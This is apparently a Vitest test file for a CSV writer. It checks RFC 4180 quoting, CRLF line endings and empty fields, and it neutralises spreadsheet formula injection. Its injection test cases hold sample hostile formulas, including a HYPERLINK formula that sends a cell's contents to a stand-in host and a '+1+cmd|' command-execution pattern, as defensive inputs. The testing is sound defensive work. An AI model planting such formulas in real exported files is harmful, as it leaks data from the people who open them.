import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/http/csv.js';

type Row = { user: string | null | undefined; seconds: number };
const csv = (rows: Row[]) => toCsv<Row>(['user', 'seconds'], rows);

describe('toCsv (RFC 4180)', () => {
  it('writes the header line alone when there are no rows', () => {
    expect(csv([])).toBe('user,seconds\r\n');
  });

  it('ends every line with CRLF, fields in column order', () => {
    expect(
      csv([
        { seconds: 3600, user: 'ann' },
        { seconds: 0.5, user: ' b ' },
      ]),
    ).toBe('user,seconds\r\nann,3600\r\n b ,0.5\r\n');
  });

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line\nbreak', '"line\nbreak"'],
    ['carriage\rreturn', '"carriage\rreturn"'],
    ["it's; fine", "it's; fine"],
    ['é 😀', 'é 😀'],
  ])('writes %j as %j', (user, field) => {
    expect(csv([{ user, seconds: 1 }])).toBe(`user,seconds\r\n${field},1\r\n`);
  });

  // OWASP's advice against formula injection: a field a spreadsheet would run as a formula is
  // quoted, and a single quote put before it, so that it is read as text.
  it.each([
    ['=HYPERLINK("http://x.test/?"&A1,"x")', `"'=HYPERLINK(""http://x.test/?""&A1,""x"")"`],
    ['+1+cmd|', `"'+1+cmd|"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\tcmd', `"'\tcmd"`],
    ['\rcmd', `"'\rcmd"`],
    ['a=b', 'a=b'],
  ])('neutralises %j as %j', (user, field) => {
    expect(csv([{ user, seconds: 1 }])).toBe(`user,seconds\r\n${field},1\r\n`);
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csv([{ user: 'ann', seconds: -1.5 }])).toBe('user,seconds\r\nann,-1.5\r\n');
  });

  it('writes null and undefined as empty fields', () => {
    expect(
      csv([
        { user: null, seconds: 1 },
        { user: undefined, seconds: 2 },
      ]),
    ).toBe('user,seconds\r\n,1\r\n,2\r\n');
  });
});
